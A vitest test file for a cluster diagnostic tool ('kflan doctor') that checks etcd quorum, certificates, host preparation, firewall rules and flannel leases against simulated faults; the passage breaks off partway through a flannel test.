import {mkdtempSync, readFileSync, rmSync} from 'node:fs'
import {tmpdir} from 'node:os'
import {join} from 'node:path'
import {afterAll, beforeAll, describe, expect, it} from 'vitest'

import type {CheckResult, DoctorInput, HostData, HostState, RunOut} from '../../src/doctor/types.js'
import type {UnitState} from '../../src/host/units.js'
import type {Cluster, Host} from '../../src/inventory/model.js'

import {quorum as quorumOf} from '../../src/cluster/etcdctl.js'
import {blockingInputRules, forwardVerdict} from '../../src/cluster/iptables.js'
import {pingPlan} from '../../src/doctor/dataplane.js'
/**
 * kflan doctor's checks, pure: a healthy five-host cluster built in memory (real certificates from
 * the PKI module), then one fault at a time, asserting exactly which checks change.
 */
import {evaluate, formatReport, limitTo, summarize} from '../../src/doctor/index.js'
import {expectedOwned} from '../../src/doctor/owned.js'
import {firewalldOpens, parseFirewalld} from '../../src/host/firewalld.js'
import {pkiRequest} from '../../src/pki/cluster.js'
import {ensurePki} from '../../src/pki/index.js'
import {DOCKER_DROPIN} from '../../src/render/paths.js'
import {clusterFrom, threeMastersTwoNodes} from './helpers.js'

const INVENTORY = threeMastersTwoNodes()

/** etcd member IDs: the third does not fit in a double (must survive parsing exactly). */
const IDS: Record<string, string> = {m1: '6380610312619252246', m2: '6622442394103985678', m3: '10488759157124456252'}
const SUBNETS: Record<string, string> = {n1: '10.244.64', n2: '10.244.5'}
const VTEP: Record<string, string> = {n1: '16:b3:d6:5b:14:67', n2: '8e:c7:b1:a1:e3:c7'}
const NOW = new Date()

const ok = (stdout: string): RunOut => ({stdout, stderr: '', rc: 0})
const b64 = (s: string) => Buffer.from(s).toString('base64')
const unit = (active = 'active', extra: Partial<UnitState> = {}): UnitState => ({
  loadState: 'loaded',
  activeState: active,
  subState: active === 'active' ? 'running' : 'dead',
  mainPid: active === 'active' ? 100 : undefined,
  dropInPaths: [],
  exists: true,
  active: active === 'active',
  ...extra,
})
/** `iptables -S` text → the probe's rule lines. */
const rules = (text: string) => text.split('\n').filter(Boolean)

let c: Cluster
let stateDir: string
let otherStateDir: string
const pki = (dir: string, f: string) => readFileSync(join(dir, 'pki', f), 'utf8')

const CONFIG =
  '{"Network":"10.244.0.0/16","SubnetLen":24,"SubnetMin":"10.244.1.0","SubnetMax":"10.244.255.0","Backend":{"Type":"vxlan","VNI":1,"Port":8472}}'

function lease(n: string, publicIp: string): {key: string; value: string} {
  return {
    key: `/coreos.com/network/subnets/${SUBNETS[n]}.0-24`,
    value: JSON.stringify({
      PublicIP: publicIp,
      PublicIPv6: null,
      BackendType: 'vxlan',
      BackendData: {VNI: 1, VtepMAC: VTEP[n]},
    }),
  }
}

export function keysJson(kvs: {key: string; value: string}[]): string {
  const body = kvs
    .map(
      (kv) =>
        `{"key":"${b64(kv.key)}","create_revision":2,"mod_revision":2,"version":1,"value":"${b64(kv.value)}","lease":6862538066477234950}`,
    )
    .join(',')
  return `{"header":{"cluster_id":5341224225792870368,"member_id":${IDS.m1},"revision":4,"raft_term":2}${kvs.length > 0 ? `,"kvs":[${body}],"count":${kvs.length}` : ''}}`
}

function memberListJson(members = ['m1', 'm2', 'm3']): string {
  const m = members.map(
    (n) =>
      `{"ID":${IDS[n] ?? '42'},"name":"${n}","peerURLs":["https://${host(n).address}:2380"],"clientURLs":["https://${host(n).address}:2379"]}`,
  )
  return `{"header":{"cluster_id":5341224225792870368,"member_id":${IDS.m1},"raft_term":2},"members":[${m.join(',')}]}`
}

function statusJson(n: string, leader = IDS.m2, dbSize = 32_768): string {
  return `[{"Endpoint":"https://${host(n).address}:2379","Status":{"header":{"cluster_id":5341224225792870368,"member_id":${IDS[n]},"revision":4,"raft_term":2},"version":"3.4.23","dbSize":${dbSize},"leader":${leader},"raftIndex":13,"raftTerm":2,"raftAppliedIndex":13,"dbSizeInUse":20480}}]`
}

const V2_OFF: RunOut = {
  stdout: '',
  stderr: 'Error:  client: response is invalid json. The endpoint is probably not valid etcd cluster endpoint',
  rc: 4,
}
const FORWARD_RULES = `-P INPUT ACCEPT
-P FORWARD DROP
-P OUTPUT ACCEPT
-N DOCKER-USER
-N FLANNEL-FWD
-A FORWARD -j DOCKER-USER
-A FORWARD -m comment --comment "flanneld forward" -j FLANNEL-FWD
-A DOCKER-USER -j RETURN
-A FLANNEL-FWD -s 10.244.0.0/16 -m comment --comment "flanneld forward" -j ACCEPT
-A FLANNEL-FWD -d 10.244.0.0/16 -m comment --comment "flanneld forward" -j ACCEPT
`

function host(name: string): Host {
  return c.hosts.find((h) => h.name === name)!
}

function baseData(): HostData {
  return {
    clock: {remoteMs: 0, skewMs: 3, uncertaintyMs: 2},
    swap: {active: false, devices: []},
    selinux: {present: false},
    firewalld: {installed: false, active: false, state: 'inactive', ports: []},
    sysctl: {ipForward: true, bridgeNfCallIptables: true, bridgeNfCallIp6tables: true},
    brNetfilter: {loaded: true, procDir: true, module: true},
    iptables: {rules: rules('-P INPUT ACCEPT\n-P FORWARD ACCEPT\n-P OUTPUT ACCEPT\n')},
    units: {
      docker: unit('active', {execStart: '/usr/sbin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock'}),
    },
    files: {},
    interfaces: [],
    routes: [],
    missingTools: [],
  }
}

function memberData(n: string): HostData {
  const d = baseData()
  const ssl = '/opt/etcd/ssl'
  d.units.etcd = unit()
  d.files = {
    [`${ssl}/ca.pem`]: pki(stateDir, 'ca.pem'),
    [`${ssl}/server.pem`]: pki(stateDir, `server-${n}.pem`),
    [`${ssl}/server-key.pem`]: pki(stateDir, `server-${n}-key.pem`),
    [`${ssl}/peer.pem`]: pki(stateDir, `peer-${n}.pem`),
    [`${ssl}/peer-key.pem`]: pki(stateDir, `peer-${n}-key.pem`),
  }
  Object.assign(d.files, renderedOwned(n, d))
  d.etcd = {
    process: etcdProcess(n),
    endpoints: {
      [n]: {
        health: ok(`[{"endpoint":"https://${host(n).address}:2379","health":true,"took":"5ms"}]`),
        status: ok(statusJson(n)),
      },
    },
  }
  if (n === 'm1') {
    d.etcd.reads = {
      memberList: ok(memberListJson()),
      alarms: ok(''),
      keysV3: ok(
        keysJson([
          {key: '/coreos.com/network/config', value: CONFIG},
          lease('n2', '10.0.0.22'),
          lease('n1', '10.0.0.21'),
        ]),
      ),
      configV2: ['m1', 'm2', 'm3'].map((m) => ({member: m, run: V2_OFF})),
    }
  }

  return d
}

function nodeData(n: string): HostData {
  const d = baseData()
  const other = n === 'n1' ? 'n2' : 'n1'
  const ssl = '/opt/flannel/ssl'
  const gw = `${SUBNETS[n]}.1`
  d.iptables = {rules: rules(FORWARD_RULES)}
  d.units.flanneld = unit()
  d.units.docker = unit('active', {
    execStart:
      '/usr/sbin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock $DOCKER_OPTS $DOCKER_NETWORK_OPTIONS',
    dropInPaths: [DOCKER_DROPIN],
  })
  d.files = {
    [`${ssl}/ca.pem`]: pki(stateDir, 'ca.pem'),
    [`${ssl}/flanneld.pem`]: pki(stateDir, 'flanneld.pem'),
    [`${ssl}/flanneld-key.pem`]: pki(stateDir, 'flanneld-key.pem'),
    '/run/flannel/subnet.env': `FLANNEL_NETWORK=10.244.0.0/16\nFLANNEL_SUBNET=${gw}/24\nFLANNEL_MTU=1450\nFLANNEL_IPMASQ=true\n`,
  }
  Object.assign(d.files, renderedOwned(n, d))
  d.interfaces = [
    {name: 'eth0', mtu: 1500, addresses: [{family: 'inet', address: host(n).address, prefixLen: 24}]},
    {name: 'docker0', mtu: 1450, addresses: [{family: 'inet', address: gw, prefixLen: 24}]},
    {name: 'flannel.1', mtu: 1450, addresses: [{family: 'inet', address: `${SUBNETS[n]}.0`, prefixLen: 32}]},
  ]
  d.routes = [
    {dst: 'default', gateway: '10.0.0.1', dev: 'eth0', flags: []},
    {dst: `${SUBNETS[other]}.0/24`, gateway: `${SUBNETS[other]}.0`, dev: 'flannel.1', flags: ['onlink']},
    {dst: `${SUBNETS[n]}.0/24`, dev: 'docker0', flags: []},
  ]
  d.vxlan = {name: 'flannel.1', mtu: 1450, up: true, kind: 'vxlan', vni: 1, local: host(n).address, port: 8472}
  d.dockerCmdline = `/usr/sbin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock --bip=${gw}/24 --ip-masq=false --mtu=1450 `
  d.health = {healthz: {url: 'http://127.0.0.1:8471/healthz', code: 200, body: 'flanneld is running'}}
  return d
}

/** kflan's own files on a host, as rendered (the docker drop-in from the host's docker unit). */
function renderedOwned(n: string, d: HostData): Record<string, string> {
  return Object.fromEntries(expectedOwned(c, host(n), d))
}

/** The running etcd as /proc shows it: the unit's flags, the environment file's URLs. */
function etcdProcess(n: string): {args: string[]; env: Record<string, string>} {
  const ssl = '/opt/etcd/ssl'
  const a = host(n).address
  return {
    args: [
      '/opt/etcd/bin/etcd',
      `--cert-file=${ssl}/server.pem`,
      `--key-file=${ssl}/server-key.pem`,
      `--trusted-ca-file=${ssl}/ca.pem`,
      '--client-cert-auth',
      `--peer-cert-file=${ssl}/peer.pem`,
      `--peer-key-file=${ssl}/peer-key.pem`,
      `--peer-trusted-ca-file=${ssl}/ca.pem`,
      '--peer-client-cert-auth',
    ],
    env: {
      ETCD_NAME: n,
      ETCD_LISTEN_PEER_URLS: `https://${a}:2380`,
      ETCD_LISTEN_CLIENT_URLS: `https://${a}:2379,https://127.0.0.1:2379`,
      ETCD_ADVERTISE_CLIENT_URLS: `https://${a}:2379`,
    },
  }
}

/** A healthy cluster: every host connected and converged, both pings answered. */
function healthy(): DoctorInput {
  const hosts: HostState[] = c.hosts.map((h) => ({
    host: h,
    connected: true,
    hostKey: {fingerprint: 'SHA256:x', keyType: 'ssh-ed25519', action: 'known'},
    data: h.roles.etcd ? memberData(h.name) : nodeData(h.name),
  }))
  return {
    cluster: c,
    hosts,
    localCaPem: pki(stateDir, 'ca.pem'),
    pings: new Map([
      ['n1', [{target: 'n2', address: '10.244.5.1', ok: true, rttMs: 0.3}]],
      ['n2', [{target: 'n1', address: '10.244.64.1', ok: true, rttMs: 0.2}]],
    ]),
    now: NOW,
  }
}

const healthyResults = () => evaluate(healthy())
const data = (input: DoctorInput, name: string) => input.hosts.find((h) => h.host.name === name)!.data!

/** The results that are not ok, as "status host id" (cluster results without host). */
function problems(results: CheckResult[]): string[] {
  return results
    .filter((r) => r.status !== 'ok')
    .map((r) => `${r.status} ${r.host ? `${r.host} ` : ''}${r.id}`)
    .sort()
}

const find = (results: CheckResult[], id: string, h?: string) => results.find((r) => r.id === id && r.host === h)!

beforeAll(async () => {
  c = clusterFrom(INVENTORY)
  stateDir = mkdtempSync(join(tmpdir(), 'kflan-doctor-'))
  otherStateDir = mkdtempSync(join(tmpdir(), 'kflan-doctor-other-'))
  await ensurePki(stateDir, pkiRequest(c))
  await ensurePki(otherStateDir, pkiRequest(c))
})

afterAll(() => {
  rmSync(stateDir, {recursive: true, force: true})
  rmSync(otherStateDir, {recursive: true, force: true})
})

describe('doctor: a healthy cluster', () => {
  it('passes every check, each id where it belongs', () => {
    const results = evaluate(healthy())
    expect(problems(results)).toEqual([])
    const ids = (h?: string) =>
      results
        .filter((r) => r.host === h)
        .map((r) => r.id)
        .sort()
    expect(ids()).toEqual([
      'etcd.alarms',
      'etcd.health',
      'etcd.leader',
      'etcd.members',
      'flannel.leases',
      'host.clock-skew',
      'network.config',
    ])
    expect(ids('m2')).toEqual(
      [
        'certs.ca',
        'certs.chain',
        'certs.expiry',
        'certs.files',
        'certs.key',
        'certs.san',
        'certs.usage',
        'etcd.db-size',
        'etcd.tls',
        'etcd.unit',
        'files.managed',
        'host.br-netfilter',
        'host.bridge-nf-call-iptables',
        'host.firewalld',
        'host.ip-forward',
        'host.iptables-input',
        'host.selinux',
        'host.swap',
        'ssh.reachable',
      ].sort(),
    )
    expect(ids('n1')).toEqual(
      [
        'certs.ca',
        'certs.chain',
        'certs.expiry',
        'certs.files',
        'certs.key',
        'certs.usage',
        'dataplane.ping',
        'docker.bridge',
        'docker.dropin',
        'docker.unit',
        'files.managed',
        'flannel.healthz',
        'flannel.lease',
        'flannel.routes',
        'flannel.subnet-file',
        'flannel.unit',
        'flannel.vxlan',
        'host.br-netfilter',
        'host.bridge-nf-call-iptables',
        'host.firewalld',
        'host.forward-chain',
        'host.ip-forward',
        'host.iptables-input',
        'host.selinux',
        'host.swap',
        'ssh.reachable',
      ].sort(),
    )
    for (const r of results) {
      expect(r.scope).toBe(r.host ? 'host' : 'cluster')
      expect(r.hint).toBeUndefined()
    }

    expect(find(results, 'etcd.leader').message).toContain('leader m2')
    expect(find(results, 'flannel.lease', 'n1').message).toContain('10.244.64.0/24 with PublicIP 10.0.0.21')
  })

  it('summarizes: exit-worthy only on failures', () => {
    const results = evaluate(healthy())
    const report = summarize(c, results, 1234)
    expect(report.ok).toBe(true)
    expect(report.summary.fail).toBe(0)
    const text = formatReport(
      report,
      c.hosts.map((h) => h.name),
    )
    expect(text.split('\n')[0]).toBe('cluster')
    expect(text).toContain('cluster t: 0 failed, 0 warnings')
  })
})

describe('doctor: one fault at a time', () => {
  it('an unreachable host is exactly one failed ssh.reachable', () => {
    const input = healthy()
    const n2 = input.hosts.find((h) => h.host.name === 'n2')!
    Object.assign(n2, {
      connected: false,
      data: undefined,
      hostKey: undefined,
      error: {
        kind: 'unreachable',
        message: 'n2: cannot reach 10.0.0.22:22: connection refused (port closed)',
        hint: 'is sshd running?',
      },
    })
    input.pings = new Map()
    const results = evaluate(input)
    expect(problems(results)).toEqual(['fail n2 ssh.reachable'])
    expect(find(results, 'ssh.reachable', 'n2').message).toBe(
      'unreachable: cannot reach 10.0.0.22:22: connection refused (port closed)',
    )
    expect(results.filter((r) => r.host === 'n2')).toHaveLength(1)
  })

  it('a changed host key is the same one check', () => {
    const input = healthy()
    const m3 = input.hosts.find((h) => h.host.name === 'm3')!
    Object.assign(m3, {
      connected: false,
      data: undefined,
      error: {kind: 'hostkey', message: 'm3: HOST KEY CHANGED for 10.0.0.13', hint: 'check it'},
    })
    // m1 asked for m3's endpoint on m3's behalf.
    data(input, 'm1').etcd!.endpoints.m3 = {
      health: ok('[{"endpoint":"https://10.0.0.13:2379","health":true}]'),
      status: ok(statusJson('m3')),
    }
    const results = evaluate(input)
    expect(problems(results)).toEqual(['fail m3 ssh.reachable'])
    expect(find(results, 'ssh.reachable', 'm3').message).toMatch(/^host key refused: HOST KEY CHANGED/)
    expect(find(results, 'etcd.health').message).toContain('all 3 members healthy')
  })

  it('one etcd member down: warnings, quorum kept', () => {
    const input = healthy()
    const m2 = data(input, 'm2')
    m2.units.etcd = unit('inactive')
    m2.etcd!.endpoints.m2 = {
      health: {
        stdout: '[{"endpoint":"https://10.0.0.12:2379","health":false,"error":"context deadline exceeded"}]',
        stderr: 'Error: unhealthy cluster',
        rc: 1,
      },
      status: {
        stdout: '[]',
        stderr: String.raw`{"level":"warn","error":"rpc error: desc = \"transport: Error while dialing dial tcp 10.0.0.12:2379: connect: connection refused\""}`,
        rc: 1,
      },
    }
    for (const n of ['m1', 'm3']) data(input, n).etcd!.endpoints[n].status = ok(statusJson(n, IDS.m1))
    const results = evaluate(input)
    expect(problems(results)).toEqual(['warn etcd.health', 'warn m2 etcd.unit'])
    expect(find(results, 'etcd.health').message).toBe(
      '1 member of 3 unhealthy: m2 (etcd.service inactive: connect: connection refused); quorum kept (2 healthy, 2 needed)',
    )
    expect(find(results, 'etcd.health').hint).toContain('start etcd on m2')
    expect(summarize(c, results, 1).ok).toBe(true)
  })

  it('two etcd members down: quorum lost, the members named', () => {
    const input = healthy()
    for (const n of ['m2', 'm3']) {
      const d = data(input, n)
      d.units.etcd = unit('inactive')
      d.etcd!.endpoints[n] = {
        health: {
          stdout: `[{"endpoint":"https://${host(n).address}:2379","health":false,"error":"context deadline exceeded"}]`,
          stderr: '',
          rc: 1,
        },
        status: {stdout: '', stderr: 'connect: connection refused', rc: 1},
      }
    }

    const m1 = data(input, 'm1').etcd!
    m1.endpoints.m1 = {
      health: {
        stdout: '[{"endpoint":"https://10.0.0.11:2379","health":false,"error":"context deadline exceeded"}]',
        stderr: '',
        rc: 1,
      },
      status: {
        stdout: `[{"Endpoint":"https://10.0.0.11:2379","Status":{"header":{"member_id":${IDS.m1}},"version":"3.4.23","dbSize":32768,"raftTerm":3,"errors":["etcdserver: no leader"]}}]`,
        stderr: '',
        rc: 1,
      },
    }
    m1.reads!.alarms = {stdout: '', stderr: 'Error: context deadline exceeded', rc: 1}
    const results = evaluate(input)
    expect(problems(results)).toEqual([
      'fail etcd.health',
      'fail etcd.leader',
      'fail m2 etcd.unit',
      'fail m3 etcd.unit',
    ])
    const health = find(results, 'etcd.health').message
    expect(health).toMatch(/^quorum lost: 0 of 3 members healthy, 2 needed/)
    expect(health).toContain('m2 (etcd.service inactive: connect: connection refused)')
    expect(health).toContain('m3 (etcd.service inactive')
    expect(find(results, 'etcd.leader').message).toBe('no leader (etcdserver: no leader)')
    // Serializable reads still answer: the config and the leases are checked.
    expect(find(results, 'network.config').status).toBe('ok')
    expect(quorumOf(3)).toBe(2)
    expect(quorumOf(5)).toBe(3)
  })

  it('quorum lost while the old leader has not stepped down yet: still no leader', () => {
    const input = healthy()
    for (const n of ['m2', 'm3']) {
      const d = data(input, n)
      d.units.etcd = unit('inactive')
      d.etcd!.endpoints[n] = {
        health: {stdout: '', stderr: 'connect: connection refused', rc: 1},
        status: {stdout: '', stderr: 'connect: connection refused', rc: 1},
      }
    }

    data(input, 'm1').etcd!.endpoints.m1 = {
      health: {
        stdout: '[{"endpoint":"https://10.0.0.11:2379","health":false,"error":"context deadline exceeded"}]',
        stderr: '',
        rc: 1,
      },
      status: ok(statusJson('m1', IDS.m1)),
    }
    const results = evaluate(input)
    expect(find(results, 'etcd.leader').status).toBe('fail')
    expect(find(results, 'etcd.leader').message).toBe('no leader able to commit: quorum lost (m1 sees m1)')
  })

  it('member list against the inventory', () => {
    const input = healthy()
    const reads = data(input, 'm1').etcd!.reads!
    reads.memberList = ok(
      memberListJson()
        .replace('https://10.0.0.13:2380', 'https://10.0.0.99:2380')
        .replace(/\]\}$/, ',{"ID":42,"name":"old","peerURLs":["https://10.0.0.50:2380"]}]}'),
    )
    const results = evaluate(input)
    expect(problems(results)).toEqual(['fail etcd.members'])
    expect(find(results, 'etcd.members').message).toContain(
      'm3 has peer URLs https://10.0.0.99:2380, not https://10.0.0.13:2380',
    )
    expect(find(results, 'etcd.members').message).toContain(
      'old (ID 2a, https://10.0.0.50:2380) is a member but not in the inventory',
    )
  })

  it('alarms and database size', () => {
    const input = healthy()
    data(input, 'm1').etcd!.reads!.alarms = ok(`memberID:${IDS.m3} alarm:NOSPACE\n`)
    data(input, 'm3').etcd!.endpoints.m3.status = ok(statusJson('m3', IDS.m2, Math.round(0.85 * 2 * 1024 ** 3)))
    data(input, 'm2').etcd!.quotaBytes = 65_536
    data(input, 'm2').etcd!.endpoints.m2.status = ok(statusJson('m2', IDS.m2, 65_536))
    const results = evaluate(input)
    expect(problems(results)).toEqual(['fail etcd.alarms', 'fail m2 etcd.db-size', 'warn m3 etcd.db-size'])
    expect(find(results, 'etcd.alarms').message).toContain('NOSPACE on m3')
    expect(find(results, 'etcd.db-size', 'm3').message).toBe('database 1.7 GiB of 2.0 GiB quota (85%)')
  })

  it('host preparation: swap, SELinux, firewalld, br_netfilter, sysctls', () => {
    const input = healthy()
    data(input, 'n1').swap = {active: true, devices: [{path: '/swapfile', type: 'file', sizeKb: 1_048_572, usedKb: 0}]}
    data(input, 'm1').selinux = {present: true, mode: 'enforcing'}
    data(input, 'm3').selinux = {present: true, mode: 'permissive'}
    data(input, 'm2').firewalld = {
      installed: true,
      active: true,
      state: 'active',
      ports: [
        {port: '2379/tcp', open: true},
        {port: '2380/tcp', open: false},
      ],
    }
    data(input, 'n2').brNetfilter = {loaded: false, procDir: false, module: false}
    data(input, 'm3').sysctl.bridgeNfCallIptables = false
    data(input, 'n2').sysctl.ipForward = false
    const results = evaluate(input)
    expect(problems(results)).toEqual([
      'fail m1 host.selinux',
      'fail m2 host.firewalld',
      'fail m3 host.bridge-nf-call-iptables',
      'fail n1 host.swap',
      'fail n2 host.br-netfilter',
      'fail n2 host.ip-forward',
    ])
    expect(find(results, 'host.swap', 'n1').message).toBe('swap is on: /swapfile (file, 1024 MiB)')
    expect(find(results, 'host.firewalld', 'm2').message).toBe('firewalld is running and does not allow 2380/tcp')
    expect(find(results, 'host.ip-forward', 'n2').hint).toContain('sysctl -w net.ipv4.ip_forward=1')
  })

  it('firewalld on a flannel host: the pod network must be a trusted source', () => {
    const input = healthy()
    const ports = [
      {port: '8472/udp', open: true},
      {port: '8471/tcp', open: true},
    ]
    data(input, 'n1').firewalld = {installed: true, active: true, state: 'active', ports, trustedSources: []}
    data(input, 'n2').firewalld = {
      installed: true,
      active: true,
      state: 'active',
      ports,
      trustedSources: ['10.244.0.0/16'],
    }
    const results = evaluate(input)
    expect(problems(results)).toEqual(['fail n1 host.firewalld'])
    expect(find(results, 'host.firewalld', 'n1').message).toBe(
      'firewalld is running and its trusted zone lacks the pod network 10.244.0.0/16: forwarded pod traffic is rejected',
    )
    const fw = parseFirewalld(
      'installed=1\nstate=active\nzone=1\npublic (active)\n  target: default\n  ports: 8472/udp\n@trusted-sources=10.244.0.0/16 10.9.0.0/16\n',
    )
    expect(fw).toEqual({
      installed: true,
      active: true,
      state: 'active',
      zone: {target: 'default', ports: ['8472/udp'], services: []},
      trustedSources: ['10.244.0.0/16', '10.9.0.0/16'],
    })
    expect(firewalldOpens(fw, ['8472/udp', '2379/tcp'])).toEqual([
      {port: '8472/udp', open: true},
      {port: '2379/tcp', open: false},
    ])
  })

  it('the FORWARD chain and INPUT rules', () => {
    const input = healthy()
    data(input, 'n1').iptables = {rules: rules('-P FORWARD DROP\n-A FORWARD -o docker0 -j ACCEPT\n')}
    data(input, 'n2').iptables = {rules: rules(`${FORWARD_RULES}-A INPUT -p udp -m udp --dport 8472 -j DROP\n`)}
    const results = evaluate(input)
    expect(problems(results)).toEqual(['fail n1 host.forward-chain', 'fail n2 host.iptables-input'])
    expect(find(results, 'host.iptables-input', 'n2').message).toBe(
      'iptables drops 8472/udp: -A INPUT -p udp -m udp --dport 8472 -j DROP',
    )
  })

  it('clock skew above preflight.maxClockSkew warns', () => {
    const input = healthy()
    data(input, 'm3').clock = {remoteMs: 0, skewMs: 4200, uncertaintyMs: 5}
    const results = evaluate(input)
    expect(problems(results)).toEqual(['warn host.clock-skew'])
    expect(find(results, 'host.clock-skew').message).toMatch(/^clocks differ by 4\.20 s between m3 \(ahead\) and /)
  })
})

describe('doctor: certificates', () => {
  const ssl = '/opt/etcd/ssl'

  it("a server certificate without the member's address", () => {
    const input = healthy()
    // m1's server certificate and key, installed on m2: chains to the CA, key matches, wrong SANs.
    data(input, 'm2').files[`${ssl}/server.pem`] = pki(stateDir, 'server-m1.pem')
    data(input, 'm2').files[`${ssl}/server-key.pem`] = pki(stateDir, 'server-m1-key.pem')
    const results = evaluate(input)
    expect(problems(results)).toEqual(['fail m2 certs.san'])
    expect(find(results, 'certs.san', 'm2').message).toMatch(
      /^not valid for 10\.0\.0\.12: server\.pem \(SANs .*IP:10\.0\.0\.11/,
    )
  })

  it('a key that does not belong to its certificate, a missing file', () => {
    const input = healthy()
    data(input, 'm3').files[`${ssl}/peer-key.pem`] = pki(stateDir, 'peer-m1-key.pem')
    delete data(input, 'n1').files['/opt/flannel/ssl/flanneld-key.pem']
    const results = evaluate(input)
    expect(problems(results)).toEqual(['fail m3 certs.key', 'fail n1 certs.files'])
    expect(find(results, 'certs.key', 'm3').message).toBe('/opt/etcd/ssl/peer-key.pem does not belong to peer.pem')
    expect(find(results, 'certs.files', 'n1').message).toBe('missing /opt/flannel/ssl/flanneld-key.pem')
  })

  it('another CA on one host: chain holds there, but the CA differs', () => {
    const input = healthy()
    const n2 = data(input, 'n2')
    n2.files['/opt/flannel/ssl/ca.pem'] = pki(otherStateDir, 'ca.pem')
    const results = evaluate(input)
    expect(problems(results)).toEqual(['fail n2 certs.ca', 'fail n2 certs.chain'])
    expect(find(results, 'certs.ca', 'n2').message).toBe("flannel ca.pem differs from the state directory's CA")
    // Without a local CA, the majority decides.
    input.localCaPem = undefined
    expect(find(evaluate(input), 'certs.ca', 'n2').message).toBe('flannel ca.pem differs from the CA most hosts have')
  })

  it('expiry: warn under 30 days, fail once expired', () => {
    const input = healthy()
    input.now = new Date(NOW.getTime() + 3640 * 86_400_000)
    let results = evaluate(input)
    expect(new Set(problems(results))).toEqual(new Set(c.hosts.map((h) => `warn ${h.name} certs.expiry`)))
    input.now = new Date(NOW.getTime() + 3700 * 86_400_000)
    results = evaluate(input)
    expect(find(results, 'certs.expiry', 'n1').status).toBe('fail')
    expect(find(results, 'certs.expiry', 'n1').message).toMatch(
      /^expired: flannel ca\.pem \(on \d{4}-\d\d-\d\d\), flanneld\.pem/,
    )
  })
})

describe('doctor: network config', () => {
  const put = (input: DoctorInput, kvs: {key: string; value: string}[]) =>
    (data(input, 'm1').etcd!.reads!.keysV3 = ok(keysJson(kvs)))
  const leases = [lease('n2', '10.0.0.22'), lease('n1', '10.0.0.21')]

  it('missing', () => {
    const input = healthy()
    put(input, leases)
    const results = evaluate(input)
    expect(problems(results)).toEqual(['fail network.config'])
    expect(find(results, 'network.config').message).toBe(
      '/coreos.com/network/config is missing (v3 API): flanneld cannot start or restart ("Couldn\'t fetch network config")',
    )
  })

  it('written through the other API', () => {
    const input = healthy()
    put(input, leases)
    data(input, 'm1').etcd!.reads!.configV2[0].run = ok('{"Network":"10.244.0.0/16","Backend":{"Type":"vxlan"}}\n')
    const results = evaluate(input)
    expect(problems(results)).toEqual(['fail network.config'])
    expect(find(results, 'network.config').message).toBe(
      `/coreos.com/network/config is missing in the v3 API but present in v2: written through the v2 API, but flannel 0.26.1 reads v3: write it with ETCDCTL_API=3 etcdctl put /coreos.com/network/config '${CONFIG}'`,
    )
    expect(find(results, 'network.config').hint).toContain('--cert=/opt/etcd/ssl/server.pem')
  })

  it('different from the inventory: incompatible fails, the rest warns; garbage fails', () => {
    const input = healthy()
    put(input, [{key: '/coreos.com/network/config', value: CONFIG.replace('10.244.0.0/16', '10.99.0.0/16')}, ...leases])
    expect(find(evaluate(input), 'network.config').status).toBe('fail')
    expect(find(evaluate(input), 'network.config').message).toContain('Network 10.99.0.0/16 → 10.244.0.0/16')
    put(input, [
      {
        key: '/coreos.com/network/config',
        value: CONFIG.replace('"SubnetMin":"10.244.1.0"', '"SubnetMin":"10.244.10.0"'),
      },
      ...leases,
    ])
    expect(find(evaluate(input), 'network.config').status).toBe('warn')
    expect(find(evaluate(input), 'network.config').message).toContain('SubnetMin "10.244.10.0" → "10.244.1.0"')
    put(input, [{key: '/coreos.com/network/config', value: 'Network: 10.244.0.0/16'}, ...leases])
    expect(find(evaluate(input), 'network.config').message).toMatch(/is not a JSON object/)
  })

  it('flannel < 0.18 reads v2: a v3-only config on a cluster without --enable-v2', () => {
    const old = clusterFrom(INVENTORY.replace('version: 0.26.1', 'version: 0.16.3'))
    expect(old.flannel.etcdApi).toBe('v2')
    const input = {...healthy(), cluster: old}
    const result = evaluate(input).find((r) => r.id === 'network.config')
    expect(result.status).toBe('fail')
    expect(result.message).toBe(
      'flannel 0.16.3 reads v2, but etcd does not serve the v2 API (started without --enable-v2); /coreos.com/network/config exists only through v3',
    )
  })
})

describe('doctor: flannel', () => {
  it("flanneld's healthz not answering, or readyz not ready", () => {
    const input = healthy()
    data(input, 'n1').health = {
      healthz: {url: 'http://127.0.0.1:8471/healthz', body: 'curl: (7) Failed to connect to 127.0.0.1 port 8471'},
    }
    data(input, 'n2').health!.readyz = {
      url: 'http://127.0.0.1:8471/readyz',
      code: 503,
      body: 'flanneld is not ready yet',
    }
    const results = evaluate(input)
    expect(problems(results)).toEqual(['fail n1 flannel.healthz', 'fail n2 flannel.healthz'])
    expect(find(results, 'flannel.healthz', 'n1').message).toBe(
      'http://127.0.0.1:8471/healthz: no answer (curl: (7) Failed to connect to 127.0.0.1 port 8471)',
    )
    expect(find(results, 'flannel.healthz', 'n2').message).toBe(
      'http://127.0.0.1:8471/readyz: HTTP 503 flanneld is not ready yet',
    )
    expect(find(healthy() && evaluate(healthy()), 'flannel.healthz', 'n1')).toMatchObject({
      status: 'ok',
      message: '/healthz 200 flanneld is running',
    })
  })

  it('flanneld stopped', () => {
    const input = healthy()
    data(input, 'n1').units.flanneld = unit('inactive')
    expect(problems(evaluate(input))).toEqual(['fail n1 flannel.unit'])
  })

  it('no lease, a lease with the wrong PublicIP, a stray lease', () => {
    const input = healthy()
    data(input, 'm1').etcd!.reads!.keysV3 = ok(
      keysJson([
        {key: '/coreos.com/network/config', value: CONFIG},
        lease('n2', '10.0.2.15'),
        {key: '/coreos.com/network/subnets/10.244.9.0-24', value: '{"PublicIP":"10.0.0.99","BackendType":"vxlan"}'},
      ]),
    )
    const results = evaluate(input)
    expect(problems(results)).toEqual([
      'fail n1 flannel.lease',
      'fail n1 flannel.subnet-file',
      'fail n2 flannel.lease',
      'fail n2 flannel.subnet-file',
      'warn flannel.leases',
    ])
    expect(find(results, 'flannel.lease', 'n1').message).toBe(
      'no lease with PublicIP 10.0.0.21 in /coreos.com/network/subnets',
    )
    expect(find(results, 'flannel.lease', 'n2').message).toContain(
      'leased to PublicIP 10.0.2.15: flanneld picked the wrong interface',
    )
    expect(find(results, 'flannel.leases').message).toContain('10.244.9.0/24 (PublicIP 10.0.0.99)')
    // n1's lease is gone, so n2 has no route to expect; n2's lease has another PublicIP.
    expect(find(results, 'flannel.routes', 'n2').status).toBe('ok')
  })

  it('two hosts, one subnet', () => {
    const input = healthy()
    data(input, 'n2').files['/run/flannel/subnet.env'] =
